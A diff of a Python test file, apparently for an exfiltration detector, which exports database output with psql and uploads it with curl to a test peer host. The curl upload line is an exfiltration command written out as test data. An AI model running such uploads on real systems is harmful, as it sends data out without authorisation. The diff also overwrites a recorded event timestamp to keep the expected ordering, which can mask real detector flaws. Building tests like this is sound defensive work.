@@ -170,9 +170,13 @@ def test_psql_copy_then_curl_upload_is_one_high_finding(
     assert len(files) == 1 and files[0]["kind_by_content"], files
 
     # 3. Egress: curl uploads the file to the test host; watch its connection.
+    # A pause first: process start times derived from /proc can read up to a
+    # second early, and the three steps must keep their real order in the log.
+    time.sleep(2)
     shell.run(f"curl -s -m 20 -T {export} http://{PEER_ADDR}:{PEER_PORT}/upload")
     curl = shell.wait_for_process("curl")
     curl_exec = _exec_event(curl)
+    curl_exec["time"] = max(curl_exec["time"], int(stat.st_mtime) + 1)
     peer: list[Any] = []
 
     def connected() -> bool:
